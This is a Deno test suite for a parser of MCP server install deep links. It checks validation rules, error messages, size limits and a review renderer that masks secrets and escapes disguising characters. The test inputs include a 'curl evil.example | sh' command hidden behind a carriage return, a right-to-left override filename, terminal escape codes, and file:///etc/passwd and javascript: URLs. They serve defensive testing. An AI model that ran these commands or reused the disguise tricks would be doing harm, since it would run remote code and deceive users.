/**
 * `parseInstallLink`: every rule of the install deep link (SPEC "Install deep link", decisions.md
 * §5), one rejection at a time with its message, the 32 KB limit at and over, both alphabets,
 * and the review text (masking, invisible characters).
 */
import assert from "node:assert/strict";
import fc from "fast-check";
import {
  installLink,
  InstallLinkError,
  type InstallLinkProblem,
  MAX_CONFIG_BYTES,
  parseInstallLink,
  renderCommandLine,
  renderEntry,
  visible,
} from "../../src/mcp/deeplink.ts";

const PREFIX = "agent://mcp/install";
const HTTP_ENTRY = { url: "https://mcp.example.com/mcp" };

function bytesOf(text: string): Uint8Array {
  return new TextEncoder().encode(text);
}

function base64url(data: string | Uint8Array): string {
  const bytes = typeof data === "string" ? bytesOf(data) : data;
  return bytes.toBase64({ alphabet: "base64url", omitPadding: true });
}

function base64(data: string | Uint8Array): string {
  const bytes = typeof data === "string" ? bytesOf(data) : data;
  return bytes.toBase64();
}

/** A link with `config` = base64url of `json` (a string is used as the JSON text itself). */
function linkOf(name: string, json: unknown): string {
  const text = typeof json === "string" ? json : JSON.stringify(json);
  return `${PREFIX}?name=${name}&config=${base64url(text)}`;
}

/** Asserts that `link` is refused for `problem` with a message matching `message`. */
function rejects(link: string, problem: InstallLinkProblem, message: RegExp): void {
  assert.throws(
    () => parseInstallLink(link),
    (error: unknown) => {
      assert.ok(error instanceof InstallLinkError, `not an InstallLinkError: ${error}`);
      assert.equal(error.problem, problem, `problem of ${link.slice(0, 120)}: ${error.message}`);
      assert.match(error.message, message);
      return true;
    },
  );
}

// ---------------------------------------------------------------------------------------------
// Accepted links

Deno.test("a valid http entry: name, entry, transport, size, alphabet", () => {
  const request = parseInstallLink(linkOf("docs", HTTP_ENTRY));
  assert.deepEqual(request, {
    name: "docs",
    entry: HTTP_ENTRY,
    transport: "http",
    encoding: "base64url",
    bytes: JSON.stringify(HTTP_ENTRY).length,
    variables: [],
    warnings: [],
  });
});

Deno.test("a valid stdio entry: the command line as written, and its variables", () => {
  const entry = {
    command: "npx",
    args: ["-y", "@modelcontextprotocol/server-filesystem", 42],
    env: { ROOT: "${userHome}/work", TOKEN: "${ env:FS_TOKEN }", OTHER: "${FS_TOKEN}" },
  };
  const request = parseInstallLink(linkOf("fs", entry));
  assert.equal(request.transport, "stdio");
  assert.deepEqual(request.entry, entry);
  assert.deepEqual(request.commandLine, [
    "npx",
    "-y",
    "@modelcontextprotocol/server-filesystem",
    "42",
  ]);
  // ${userHome} is not a variable; FS_TOKEN is listed once.
  assert.deepEqual(request.variables, ["FS_TOKEN"]);
  assert.deepEqual(request.warnings, []);
});

Deno.test("transport: sse is reported; headers with ${VAR} are variables", () => {
  const request = parseInstallLink(linkOf("old", {
    url: "http://127.0.0.1:8080/sse",
    transport: "sse",
    headers: { Authorization: "Bearer ${API_TOKEN}" },
  }));
  assert.equal(request.transport, "sse");
  assert.deepEqual(request.variables, ["API_TOKEN"]);
});

Deno.test("standard base64 (+ and /), padded or not, and %2B are accepted like base64url", () => {
  // "~~~" and "???" give '+' and '/' at one of the three alignments.
  const entry = [0, 1, 2].map((shift) => ({
    url: `https://mcp.example.com/mcp?q=${"a".repeat(shift)}~~~???`,
  })).find((candidate) => /\+.*\/|\/.*\+/.test(base64(JSON.stringify(candidate))))!;
  const json = JSON.stringify(entry);
  const standard = base64(json);
  assert.match(standard, /\+/);
  assert.match(standard, /\//);
  for (
    const config of [
      standard,
      standard.replace(/=+$/, ""),
      standard.replaceAll("+", "%2B").replaceAll("/", "%2F").replaceAll("=", "%3D"),
    ]
  ) {
    const request = parseInstallLink(`${PREFIX}?name=x&config=${config}`);
    assert.deepEqual(request.entry, entry);
    assert.equal(request.encoding, "base64");
  }
  const url = base64url(json);
  for (const config of [url, `${url}${"=".repeat((4 - url.length % 4) % 4)}`]) {
    const request = parseInstallLink(`${PREFIX}?name=x&config=${config}`);
    assert.deepEqual(request.entry, entry);
    assert.equal(request.encoding, "base64url");
  }
});

Deno.test("scheme and host in any case, parameters in any order, names at the limits", () => {
  const config = base64url(JSON.stringify(HTTP_ENTRY));
  assert.equal(parseInstallLink(`AGENT://MCP/install?config=${config}&name=a`).name, "a");
  const longest = "a.b_c-D9".repeat(8);
  assert.equal(longest.length, 64);
  assert.equal(parseInstallLink(linkOf(longest, HTTP_ENTRY)).name, longest);
  // A trailing newline from a copy is dropped by the URL parser.
  assert.equal(parseInstallLink(`${linkOf("a", HTTP_ENTRY)}\n`).name, "a");
});

Deno.test("the 32 KB limit: exactly 32768 decoded bytes pass, 32769 are refused", () => {
  const padded = (size: number) => {
    const skeleton = JSON.stringify({ command: "npx", args: [""] });
    const json = JSON.stringify({ command: "npx", args: ["x".repeat(size - skeleton.length)] });
    assert.equal(bytesOf(json).length, size);
    return json;
  };
  const atLimit = parseInstallLink(linkOf("big", padded(MAX_CONFIG_BYTES)));
  assert.equal(atLimit.bytes, 32768);
  rejects(
    linkOf("big", padded(MAX_CONFIG_BYTES + 1)),
    "too_large",
    /^config decodes to 32769 bytes, over the limit of 32768 bytes \(32 KB\)/,
  );
  // Padded standard base64 of the same size is judged the same way.
  rejects(
    `${PREFIX}?name=big&config=${base64(padded(MAX_CONFIG_BYTES + 1))}`,
    "too_large",
    /32769 bytes/,
  );
  assert.equal(
    parseInstallLink(`${PREFIX}?name=big&config=${base64(padded(MAX_CONFIG_BYTES))}`).bytes,
    32768,
  );
  // Non-ASCII text counts in bytes, not characters.
  const skeleton = JSON.stringify({ command: "npx", args: [""] });
  const euros = (MAX_CONFIG_BYTES - skeleton.length + 3) / 3; // 3 bytes each, 1 over
  rejects(
    linkOf("big", JSON.stringify({ command: "npx", args: ["€".repeat(Math.ceil(euros))] })),
    "too_large",
    /over the limit/,
  );
});

Deno.test("warnings of the mcp_servers validation are returned, not fatal", () => {
  const request = parseInstallLink(linkOf("x", { command: "npx", comand: "y", headers: {} }));
  assert.deepEqual(request.warnings, [
    "comand: unknown key `comand` is ignored; did you mean `command`?",
    "headers: headers applies to HTTP servers (with `url`) only; this server uses `command`, so it is ignored; remove it",
  ]);
});

// ---------------------------------------------------------------------------------------------
// Rejections: the link

Deno.test("rejects what is not an agent://mcp/install link", () => {
  const query = `?name=a&config=${base64url(JSON.stringify(HTTP_ENTRY))}`;
  const shape = /it must look like agent:\/\/mcp\/install\?name=<server name>&config=/;
  rejects("mcp/install" + query, "not_a_link", /^"mcp\/install\?name=a&config=.*" is not a link;/);
  rejects("", "not_a_link", shape);
  rejects(
    `https://mcp/install${query}`,
    "scheme",
    /^the link starts with "https:\/\/", not agent:\/\//,
  );
  rejects(`agnet://mcp/install${query}`, "scheme", shape);
  rejects(
    `agent://server/install${query}`,
    "host",
    /^the link goes to "agent:\/\/server", not agent:\/\/mcp/,
  );
  rejects(`agent://mcp:8080/install${query}`, "host", /"agent:\/\/mcp:8080"/);
  rejects(`agent://me@mcp/install${query}`, "host", /not agent:\/\/mcp/);
  rejects(`agent:mcp/install${query}`, "host", shape);
  rejects(`agent://mcp/add${query}`, "path", /^the link asks for "\/add" instead of \/install/);
  rejects(`agent://mcp/install/${query}`, "path", /"\/install\/"/);
  rejects(`agent://mcp${query}`, "path", /"\/" instead of \/install/);
  rejects(
    `agent://mcp/install${query}#x`,
    "fragment",
    /fragment \("#x"\).*remove everything from the #/,
  );
});

Deno.test("rejects missing, repeated, unknown and badly encoded parameters", () => {
  const config = `config=${base64url(JSON.stringify(HTTP_ENTRY))}`;
  rejects(
    `${PREFIX}?${config}`,
    "missing_parameter",
    /^the link has no name parameter; add name=<server name>/,
  );
  rejects(
    `${PREFIX}?name=a`,
    "missing_parameter",
    /^the link has no config parameter; add config=</,
  );
  rejects(PREFIX, "missing_parameter", /no name parameter/);
  rejects(
    `${PREFIX}?name=a&name=b&${config}`,
    "duplicate_parameter",
    /^the link has 2 name parameters; give name exactly once$/,
  );
  rejects(`${PREFIX}?name=a&${config}&${config}`, "duplicate_parameter", /2 config parameters/);
  rejects(
    `${PREFIX}?name=a&${config}&trust=full`,
    "unknown_parameter",
    /^the link has an unknown parameter "trust"; install links take only name and config: remove it$/,
  );
  rejects(`${PREFIX}?Name=a&${config}`, "unknown_parameter", /"Name"/);
  rejects(
    `${PREFIX}?name=%zz&${config}`,
    "encoding",
    /^the "name" parameter has broken %-encoding \("%zz"\)/,
  );
  rejects(
    `${PREFIX}?name=a&config=%E0%A4%A`,
    "encoding",
    /"config" parameter has broken %-encoding/,
  );
});

Deno.test("rejects every invalid name", () => {
  const rule = /use 1 to 64 letters, digits, '\.', '_' or '-'$/;
  rejects(linkOf("", HTTP_ENTRY), "name", /^the name parameter is empty; use 1 to 64/);
  rejects(`${PREFIX}?name&config=${base64url(JSON.stringify(HTTP_ENTRY))}`, "name", /is empty/);
  for (
    const [raw, shown] of [
      ["a%20b", '"a b"'],
      ["a/b", '"a/b"'],
      ["%C3%BCmlaut", '"ümlaut"'],
      ["x".repeat(65), `"${"x".repeat(65)}"`],
      ["a%0Ab", '"a\\\\nb"'],
      ["a%1B%5B2K", '"a\\\\u001b\\[2K"'],
    ]
  ) {
    rejects(
      linkOf(raw, HTTP_ENTRY),
      "name",
      new RegExp(`^name ${shown} is not a valid server name; ${rule.source}`),
    );
  }
});

// ---------------------------------------------------------------------------------------------
// Rejections: config bytes

Deno.test("rejects config that is not base64", () => {
  const good = base64url(JSON.stringify(HTTP_ENTRY));
  rejects(`${PREFIX}?name=a&config=`, "base64", /^the config parameter is empty; set config=/);
  rejects(
    `${PREFIX}?name=a&config=${good}!`,
    "base64",
    new RegExp(
      `^config is not base64: character "!" at position ${
        good.length + 1
      }; encode the JSON with base64url`,
    ),
  );
  rejects(
    `${PREFIX}?name=a&config=ab%20cd`,
    "base64",
    /character " " at position 3; a '\+' of standard base64 may have been turned into a space: write it as %2B, or use base64url/,
  );
  rejects(`${PREFIX}?name=a&config=ab.cd`, "base64", /character "\." at position 3/);
  rejects(
    `${PREFIX}?name=a&config=ab-c+d/e`,
    "base64",
    /^config mixes base64url \('-', '_'\) and standard base64 \('\+', '\/'\) characters/,
  );
  rejects(`${PREFIX}?name=a&config=e3=0`, "base64", /^config has misplaced '=' padding/);
  rejects(`${PREFIX}?name=a&config=e30==`, "base64", /misplaced '=' padding/);
  rejects(`${PREFIX}?name=a&config=e3===`, "base64", /misplaced '=' padding/);
  rejects(
    `${PREFIX}?name=a&config=${good.slice(0, 4 * 3 + 1)}`,
    "base64",
    /^config is not valid base64: its 13 characters end in the middle of a byte; the link was probably cut off/,
  );
});

Deno.test("rejects config that is not strict UTF-8", () => {
  const invalid = (bytes: number[]) =>
    `${PREFIX}?name=a&config=${base64url(new Uint8Array(bytes))}`;
  const brace = [0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22]; // {"a":"
  rejects(
    invalid([...brace, 0xff, 0x22, 0x7d]),
    "utf8",
    /^config is not valid UTF-8 \(at byte 7\); encode the JSON text as UTF-8/,
  );
  rejects(invalid([...brace, 0xc0, 0xaf, 0x22, 0x7d]), "utf8", /at byte 7/); // overlong '/'
  rejects(invalid([...brace, 0xed, 0xa0, 0x80, 0x22, 0x7d]), "utf8", /at byte 7/); // surrogate
  rejects(invalid([...brace, 0xe2, 0x82]), "utf8", /at byte 7/); // cut off
  rejects(
    invalid([0xef, 0xbb, 0xbf, ...bytesOf(JSON.stringify(HTTP_ENTRY))]),
    "json",
    /^config starts with a byte order mark \(U\+FEFF\)/,
  );
});

Deno.test("rejects config that is not JSON, has duplicate keys, is too deep or not an object", () => {
  rejects(
    linkOf("a", "{url: 1}"),
    "json",
    // Where and what, without V8's quote of the text (an entry's env holds tokens).
    /^config is not valid JSON \(line 1, column 2: expected a property name in double quotes, or \}\); it must be a JSON object such as/,
  );
  rejects(linkOf("a", '{"url":"https://a.example"} x'), "json", /not valid JSON/);
  rejects(
    linkOf("a", '{"url":"https://a.example","url":"https://b.example"}'),
    "duplicate_key",
    /^config has the key "url" more than once; keep exactly one$/,
  );
  rejects(
    linkOf("a", '{"url":"https://a.example","u\\u0072l":"https://b.example"}'),
    "duplicate_key",
    /"url" more than once/,
  );
  rejects(
    linkOf("a", '{"command":"x","args":[{"k":1},{"k":1,"k":2}],"env":{}}'),
    "duplicate_key",
    /^config has the key "k" more than once \(in \/args\/1\); keep exactly one$/,
  );
  rejects(
    linkOf("a", '{"command":"x","env":{"a/b":{"A":"1","A":"2"}}}'),
    "duplicate_key",
    /\(in \/env\/a~1b\)/,
  );
  // Same key in different objects, and a key that equals a value, are fine.
  parseInstallLink(linkOf("a", '{"command":"x","env":{"command":"command"},"tools":{"env":[]}}'));

  const deep = (levels: number) =>
    `{"command":"x","args":${"[".repeat(levels - 1)}${"]".repeat(levels - 1)}}`;
  rejects(linkOf("a", deep(33)), "too_deep", /^config is nested more than 32 levels deep/);
  rejects(linkOf("a", deep(10_000)), "too_deep", /more than 32 levels/);
  rejects(linkOf("a", deep(32)), "invalid_entry", /args/); // deep enough to pass, yet not strings

  for (
    const [json, got] of [
      ["[]", "a list"],
      ['"https://x.example"', 'the string "https://x.example"'],
      ["null", "null"],
      ["42", "number 42"],
      ["true", "boolean true"],
    ]
  ) {
    rejects(
      linkOf("a", json),
      "not_an_object",
      new RegExp(`^config must be a JSON object such as .+, got ${got.replace(/[.]/g, "\\.")}$`),
    );
  }
});

// ---------------------------------------------------------------------------------------------
// Rejections: the entry

Deno.test("rejects entries without exactly one of a string url (http/https) or a command", () => {
  rejects(
    linkOf("a", { url: "https://a.example", command: "npx" }),
    "url_and_command",
    /^config has both url and command; .*: remove one$/,
  );
  rejects(
    linkOf("a", {}),
    "no_url_or_command",
    /^config has neither url nor command; add "url" for a remote \(HTTP\) server or "command" for a local \(stdio\) one$/,
  );
  rejects(linkOf("a", { args: ["x"] }), "no_url_or_command", /neither url nor command/);
  rejects(
    linkOf("a", { command: "" }),
    "empty_command",
    /^config\.command is empty; set it to the executable to run/,
  );
  rejects(linkOf("a", { command: "  \t" }), "empty_command", /is empty/);
  rejects(
    linkOf("a", { command: ["npx", "-y"] }),
    "type",
    /^config\.command must be a string naming the executable, got a list; put its arguments in "args"$/,
  );
  rejects(linkOf("a", { command: null }), "type", /got null/);
  rejects(linkOf("a", { command: 7 }), "type", /got number 7/);
  rejects(
    linkOf("a", { url: 443 }),
    "type",
    /^config\.url must be a string \(an http:\/\/ or https:\/\/ URL\), got number 443$/,
  );
  rejects(linkOf("a", { url: null }), "type", /got null/);
  rejects(linkOf("a", { url: { href: "https://x" } }), "type", /got an object/);
  rejects(
    linkOf("a", { url: "" }),
    "url",
    /^config\.url "" is not a URL; use an http:\/\/ or https:\/\/ URL$/,
  );
  rejects(
    linkOf("a", { url: "mcp.example.com/mcp" }),
    "url",
    /"mcp\.example\.com\/mcp" is not a URL/,
  );
  rejects(linkOf("a", { url: "${API_URL}" }), "url", /"\$\{API_URL\}" is not a URL/);
  for (
    const [url, scheme] of [["ftp://x.example/mcp", "ftp:"], ["file:///etc/passwd", "file:"], [
      "javascript:alert(1)",
      "javascript:",
    ], ["ws://x.example", "ws:"]]
  ) {
    rejects(
      linkOf("a", { url }),
      "url_scheme",
      new RegExp(
        `^config\\.url must use http or https, got "${scheme}"; use an http:// or https:// URL$`,
      ),
    );
  }
});

Deno.test("rejects entries that the config loader would refuse, naming each key", () => {
  rejects(
    linkOf("a", { command: "npx", timeout: "soon", args: "-y" }),
    "invalid_entry",
    /^config is not a valid server entry: args: args must be a list of strings, got "-y"; .*; timeout: timeout must be a number of seconds > 0, got "soon"$/,
  );
  rejects(
    linkOf("a", { url: "https://a.example", auth: "basic" }),
    "invalid_entry",
    /auth: auth must be "oauth" or left out/,
  );
  rejects(
    linkOf("a", { url: "https://a.example", headers: { A: { nested: true } } }),
    "invalid_entry",
    /headers\.A: headers values must be strings/,
  );
  rejects(
    linkOf("a", { command: "x", enabled: "maybe" }),
    "invalid_entry",
    /enabled: enabled must be true or false, got "maybe"/,
  );
});

// ---------------------------------------------------------------------------------------------
// Properties

Deno.test("property: any input either parses or fails with an InstallLinkError", () => {
  const noise = fc.oneof(
    fc.string(),
    fc.string().map((text) => `${PREFIX}?name=a&config=${text}`),
    fc.uint8Array({ maxLength: 200 }).map((bytes) => `${PREFIX}?name=a&config=${base64url(bytes)}`),
    fc.json().map((json) => linkOf("a", json)),
  );
  fc.assert(
    fc.property(noise, (link) => {
      try {
        parseInstallLink(link);
      } catch (error) {
        assert.ok(error instanceof InstallLinkError, `${link}: ${error}`);
      }
    }),
    { numRuns: 500 },
  );
});

Deno.test("property: installLink → parseInstallLink gives back the name and entry", () => {
  const name = fc.stringMatching(/^[A-Za-z0-9._-]{1,64}$/);
  const entry = fc.record({
    command: fc.string({ minLength: 1 }).filter((text) => text.trim() !== ""),
    args: fc.array(fc.string()),
    env: fc.dictionary(fc.stringMatching(/^[A-Z_]{1,8}$/), fc.string()),
  });
  fc.assert(
    fc.property(name, entry, (name, entry) => {
      const request = parseInstallLink(installLink(name, entry));
      assert.equal(request.name, name);
      assert.deepEqual(request.entry, JSON.parse(JSON.stringify(entry)));
      assert.deepEqual(request.commandLine, [entry.command.trim(), ...entry.args]);
    }),
    { numRuns: 200 },
  );
});

// ---------------------------------------------------------------------------------------------
// Review text

Deno.test("renderEntry: YAML-like lines, secrets masked, placeholders and plain values shown", () => {
  const text = renderEntry({
    command: "npx",
    args: ["-y", "my server", "true", "", "- x"],
    env: { API_KEY: "k-123", SESSION_COOKIE: "Basic abc", LOG_LEVEL: "debug", TOKEN: "${TOKEN}" },
    oauth: { client_secret: "s3cret", client_id: "abc" },
    client_cert: ["/c.pem", "/k.pem", "pw"],
    tools: { include: [], resources: false },
    timeout: 30,
  });
  assert.equal(
    text,
    [
      "command: npx",
      "args:",
      "  - -y",
      "  - my server",
      '  - "true"',
      '  - ""',
      '  - "- x"',
      "env:",
      "  API_KEY: <hidden, 5 characters>",
      "  SESSION_COOKIE: Basic <hidden, 3 characters>",
      "  LOG_LEVEL: debug",
      "  TOKEN: ${TOKEN}",
      "oauth:",
      "  client_secret: <hidden, 6 characters>",
      "  client_id: abc",
      "client_cert:",
      "  - /c.pem",
      "  - /k.pem",
      "  - <hidden, 2 characters>",
      "tools:",
      "  include: []",
      "  resources: false",
      "timeout: 30",
      "",
    ].join("\n"),
  );
});

Deno.test("renderEntry: characters that could disguise text are escaped in keys and values", () => {
  const text = renderEntry({
    command: "sh\x1b[2K",
    args: ["-c", "curl evil.example | sh\r# harmless", "\u202Egnp.exe"],
    env: { "A\u200BB": "x\u2028y", "\x9b": "\x7f" },
  });
  // deno-lint-ignore no-control-regex
  assert.doesNotMatch(text, /[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b\u2028\u202e]/);
  assert.match(text, /command: "sh\\u001b\[2K"/);
  assert.match(text, /"curl evil\.example \| sh\\r# harmless"/);
  assert.match(text, /"\\u\{202e\}gnp\.exe"/);
  assert.match(text, /"A\\u\{200b\}B": "x\\u\{2028\}y"/);
  assert.match(text, /"\\u\{9b\}": "\\u\{7f\}"/);
});

Deno.test("visible and renderCommandLine", () => {
  assert.equal(visible("plain text, ümlaut ok"), "plain text, ümlaut ok");
  assert.equal(visible("a\tb\u0000c\u2066d"), "a\\u{9}b\\u{0}c\\u{2066}d");
  assert.equal(
    renderCommandLine(["deno", "run", "-A", "/srv/my server/main.ts", "$HOME", "a\x1bb"]),
    "deno run -A '/srv/my server/main.ts' '$HOME' 'a\\u{1b}b'",
  );
});
